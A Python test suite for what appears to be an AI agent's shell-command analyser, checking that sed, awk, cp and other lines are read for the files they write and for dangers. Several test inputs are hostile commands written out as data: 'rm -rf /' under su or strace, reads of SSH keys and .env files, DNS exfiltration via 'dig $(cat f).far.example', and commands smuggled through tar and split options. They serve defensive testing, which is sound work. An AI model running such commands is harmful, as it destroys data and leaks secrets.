"""What lines are read to write is what they write: each is run by the real Bash, sed and awk."""

import fnmatch
import shutil
import subprocess

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from aegis.tools.shell import read

WHERE = "/usr/local/bin:/usr/bin:/bin"


def run(line, folder):
    """Run a line in a folder of its own; the files that are new or changed, and the exit code."""
    (folder / "f").write_text("a x\nb y\nab 7\n")
    (folder / "sub").mkdir()
    before = {path: path.read_bytes() for path in folder.rglob("*") if path.is_file()}
    done = subprocess.run(
        ["bash", "-c", line],
        cwd=folder,
        env={"PATH": WHERE},
        stdin=subprocess.DEVNULL,
        capture_output=True,
        timeout=20,
        check=False,
    )
    after = {path: path.read_bytes() for path in folder.rglob("*") if path.is_file()}
    changed = {str(path.relative_to(folder)) for path in after if after[path] != before.get(path)}
    return changed, done.returncode


def written(found):
    return {each.name for each in found.resources if each.kind == "file" and each.verb == "write"}


def agree(line, tmp_path_factory, *, exactly=False):
    """What running a line changes was read, or the line is undecided or a danger."""
    changed, code = run(line, tmp_path_factory.mktemp("run"))
    found = read(line)
    if found.undecided or found.dangers:
        return
    assert changed <= written(found), line
    if exactly and code == 0:
        assert written(found) <= changed, line


NAMES = st.sampled_from(["out", "o.txt", "sub/w", "w"])
SPACES = st.sampled_from(["", " ", "  "])
ADDRESSES = st.sampled_from(
    ["", "1", "$", "/a/", "1,2", "/[/]/", r"\,a,I", "1!", "/a/,/b/", "0~2", "2,+1", "/w out/"]
)
EDITS = st.one_of(
    st.builds("w{}{}".format, SPACES, NAMES),
    st.builds("W{}{}".format, SPACES, NAMES),
    st.builds("s/{}/{}/{}w {}".format, st.sampled_from(["a", "[/]", r"\/", "w x"]),
              st.sampled_from(["b", "w out", r"\/", "&"]), st.sampled_from(["", "g", "p", "2I"]),
              NAMES),
    st.builds("s{0}a{0}b{0}{1}w {2}".format, st.sampled_from("|,#@"), st.sampled_from(["", "g"]),
              NAMES),
    st.sampled_from(["p", "d", "s/w /e/", "y/we/ew/", "a w out", "i\\\nw out", "{p;p}", "b w", "n",
                     "# w out", "q5", "l 9", "=", "s/[]/w]/w/g", "y/\\//w/", "s/a/b/;", ":w", "e"]),
)  # fmt: skip


@settings(max_examples=80, deadline=None)
@given(
    st.lists(st.tuples(ADDRESSES, EDITS), min_size=1, max_size=3),
    st.sampled_from([";", "\n"]),
    st.sampled_from(["-n", "-E", "-s", "-i", "-ni", "-Ei.bak"]),
)
def test_a_script_of_sed_writes_what_is_read(tmp_path_factory, edits, joint, option):
    script = joint.join(address + edit for address, edit in edits)
    agree(f"sed {option} '{script}' f", tmp_path_factory)


@pytest.mark.parametrize(
    "line",
    ["sed 'w out' f", "sed -n '/a/W out' f", "sed 's/a/b/w out' f", "sed -e p -e 'w out' f",
     "sed -es/a/b/w\\ out f", "sed --expr='w out' f", "sed --in-pl s/a/z/ f", "sed -ni.b p f",
     "sed '-isub/*.bak' p f", "sed --in-place=.bak p f", "sed '2{w out\n}' f",
     "sed 'a\\' -e 'w no' -e 'w out' f"],
)  # fmt: skip
def test_what_sed_writes_is_named(line, tmp_path_factory):
    assert "write" in read(line).does or read(line).capability == "write"
    assert not read(line).undecided
    agree(line, tmp_path_factory)


PRINTS = st.sampled_from(
    ['print > "out"', 'print $1 >> "out"', 'printf "%s\\n", $1 > "o.txt"',
     'print ("a")("b") > "w"',
     'print > ("a" "b")', "print > $1", 'print "a" > "x" "y"', 'if ($1 > "a") print',
     "print ($1 > 3)",
     "x = 1 > 2", 'print "> out"', "print /> out/", "# print > \"out\"\n",
     'print "a" | "cat > out"',
     'system("touch out")', "n = 4 / 2; print n / 2",
     'print $2, # > "no"\n $1',
     "print a[1] > \"out\"", 'print -1 " " -2 > "out"', 'while ((getline l < "f") > 0) n++',
     "print length > \"w\"", 'c = "cat > out"; print | c', "split($0, p, /[/]/)"]
)  # fmt: skip


@settings(max_examples=80, deadline=None)
@given(st.lists(PRINTS, min_size=1, max_size=3), st.sampled_from(["", "$1 > 5 ", "/a/ ", "NR>1"]))
def test_a_program_of_awk_writes_what_is_read(tmp_path_factory, prints, pattern):
    program = f"{pattern}{{ {'; '.join(prints)} }}"
    agree(f"awk '{program}' f", tmp_path_factory)


@pytest.mark.parametrize(
    ("line", "names"),
    [("awk '{print > \"out\"}' f", {"out"}),
     ("awk '{print >> \"a\" ; print > \"b\"}' f", {"a", "b"}),
     ("awk '$1 > \"a\"' f", set()), ("awk '{print ($1 > 1)}' f", set())],
)  # fmt: skip
def test_what_awk_writes_is_named(line, names, tmp_path_factory):
    assert written(read(line)) == names
    assert not read(line).undecided
    agree(line, tmp_path_factory, exactly=True)


@pytest.mark.parametrize(
    "line",
    ["awk '{print > (\"a\" \"b\")}' f", "awk '{print > $1}' f", "awk 'BEGIN{ARGV[1]=\"x\"}1' f",
     "awk '{while ((getline l < $1) > 0) print l}' f", "awk 'print \"' f", "sed 's/a/b' f",
     "sed '/a/Z' f"],
)  # fmt: skip
def test_a_program_whose_files_are_computed_is_undecided(line):
    assert read(line).undecided


@pytest.mark.parametrize(
    "line",
    ["awk '{print | cmd}' f", "awk '{\"x\" | getline}'", "awk 'BEGIN{system(c)}'", "sed s/a/b/e f"],
)
def test_a_program_that_runs_others_is_a_danger(line):
    assert "inline-code" in read(line).dangers


MOVES = st.sampled_from(
    ["cd no;", "cd sub;", "cd sub &&", "cd no &&", "cd no ||", "cd sub || exit;", "cd no || exit;",
     "cd sub || true;", "cd ..;", "(cd sub);", "cd sub\n", "cd no && cd sub;", "cd sub && true &&",
     "false && cd sub;", "cd sub | true;", "if cd no; then :; fi;", "true;"]
)  # fmt: skip


@settings(max_examples=80, deadline=None)
@given(
    st.lists(MOVES, min_size=1, max_size=3), st.sampled_from(["echo x > {}", "cp f {}", "touch {}"])
)
def test_a_change_of_directory_may_have_failed(tmp_path_factory, moves, write):
    line = f"{' '.join(moves)} {write.format('out')}"
    folder = tmp_path_factory.mktemp("run") / "p"
    folder.mkdir()
    changed, _ = run(line, folder)
    assert changed <= written(read(line)), line


def test_a_change_of_directory_behind_an_alternative_is_not_believed(tmp_path_factory):
    agree("cd no || cd sub && true && echo x > out", tmp_path_factory)
    assert {"out", "sub/out"} <= written(read("cd no || cd sub && true && echo x > out"))


def test_a_change_of_directory_that_is_asked_for_is_believed():
    assert written(read("cd sub && echo x > a")) == {"sub/a"}
    assert written(read("cd sub || exit 1; echo x > a")) == {"sub/a"}
    assert written(read("cd no; echo x > .aegis/kit-policy.yaml")) >= {".aegis/kit-policy.yaml"}
    assert written(read("cd no; bash -c 'echo x > a'")) == {"no/a", "a"}


@pytest.mark.parametrize(
    ("line", "names"),
    [("strace -o out ls", {"out"}), ("strace -fo out -e trace=file ls", {"out"}),
     ("strace --outp=out ls", {"out"}), ("strace --outp out ls", {"out"}),
     ("strace -o '|tee out' ls", {"out"}), ("strace -o '!tee out' ls", {"out"}),
     ("command time -o out ls", {"out"}), ("env time --output=out ls", {"out"}),
     ("sort --outp=out f", {"out"}), ("sort --out out f", {"out"}),
     ("cp --targ=sub f", {"sub", "sub/f"}),
     ("cp f sub/", {"sub", "sub/f"}), ("cp -t sub f", {"sub", "sub/f"})],
)  # fmt: skip
def test_options_name_what_is_written(line, names, tmp_path_factory):
    assert written(read(line)) == names
    if shutil.which(line.split()[0]) and not line.startswith(("command", "env")):
        agree(line, tmp_path_factory)


@pytest.mark.parametrize("line", ["rm --recurs /", "rm --no-pres -r /", "strace -o '|rm -rf /' ls"])
def test_an_abbreviated_option_hides_no_danger(line):
    assert "rm-root" in read(line).dangers


@pytest.mark.parametrize(
    "line",
    ["cp -r evil/. .", "cp -a evil/* .", "mv evil/* .", "cp evil/.[a-z]* ./", "rsync -a evil/ ."],
)
def test_a_copy_of_unknown_names_into_the_project_is_undecided(line):
    assert read(line).undecided
    assert not read(line.replace(" .", " build/")).undecided


HIDING = [
    "sort -n -o out f", "sort -no out f", "sort --outp out f", "uniq -c f out", "uniq -d f out",
    "sed -e 'a foo\\\\' -e 'w out' f", "gawk -d 'BEGIN{print 1}'", "gawk -o 'BEGIN{print 1}'",
    "awk 'BEGIN{if(1) /\"/; print \"x\" > \"out\" }#\"'",
    "awk 'BEGIN{while(i++<1) /\"/; print \"x\" > \"out\" }#\"'",
    "awk '!/[\\]/\"]/ {print \"x\" > \"out\"} #\"' f", "awk -f - <<< 'BEGIN{print > \"out\"}'",
    "awk -f <(echo 'BEGIN{print > \"out\"}')", "tar cf out f", "tar -czf out f", "gzip f",
    "gzip -k f", "split -l 1 f", "split -l 1 f pre", "csplit f 2", "split --filt 'touch out' f",
    "tar cf /dev/null f --checkpoint=1 --checkpoint-act=exec='touch out'", "touch -am out",
    "tar cf x f --remove", "tar cf x f --index-file=out", "mkdir out; touch -m out/a",
    "script --comm 'touch out' /dev/null", "script -c'touch out' /dev/null",
    "[[ 'a[$(touch out)]' -eq 0 ]]",
]  # fmt: skip


@pytest.mark.parametrize("line", HIDING)
def test_an_option_or_a_pattern_hides_no_file_that_is_written(line, tmp_path):
    if line.startswith("gawk") and not shutil.which("gawk", path=WHERE):
        pytest.skip("gawk is not installed")
    changed, _ = run(line, tmp_path)
    found = read(line)
    names = written(found)
    assert changed, line
    assert (
        found.undecided
        or found.dangers
        or all(any(fnmatch.fnmatch(path, name) for name in names) for path in changed)
    )


@pytest.mark.parametrize(
    "line",
    ["cat -n ~/.ssh/id_rsa", "column -t ~/.ssh/id_rsa", "look S .env", "date -f .env",
     "date --fil=.env", "wc --files0-from=.env", "file -f .env", "diff --from-file=.env f",
     "grep -f .env f", 'echo "$(<.env)"', 'cat <<< "$(< ~/.ssh/id_rsa)"', "head -n 1 .env",
     "awk '{getline a[\"x\"] < \".env\"}' f", "awk 'BEGIN{getline a[1,2] < \".env\"}'",
     "awk 'BEGIN{getline $(1) < \".env\"}'", "gzip -c .env"],
)  # fmt: skip
def test_no_option_hides_a_secret_that_is_read(line):
    assert "credentials-read" in read(line).dangers


@pytest.mark.parametrize(
    "line", ["runuser -u root rm -rf /", "su -c'rm -rf /'", "su --comm='rm -rf /'"]
)
def test_a_change_of_user_hides_no_danger(line):
    assert "rm-root" in read(line).dangers


@pytest.mark.parametrize("line", ["dig $(cat f).far.example", "ping -c 1 `cat f`.far.example"])
def test_the_output_of_a_command_does_not_leave_in_a_name(line):
    assert "exfiltration" in read(line).dangers


@pytest.mark.parametrize("line", ["info -o x sed", "hostnamectl hostname x", "lastlog -C -u x"])
def test_a_program_that_states_something_may_change_it(line):
    assert read(line).capability == "execute"
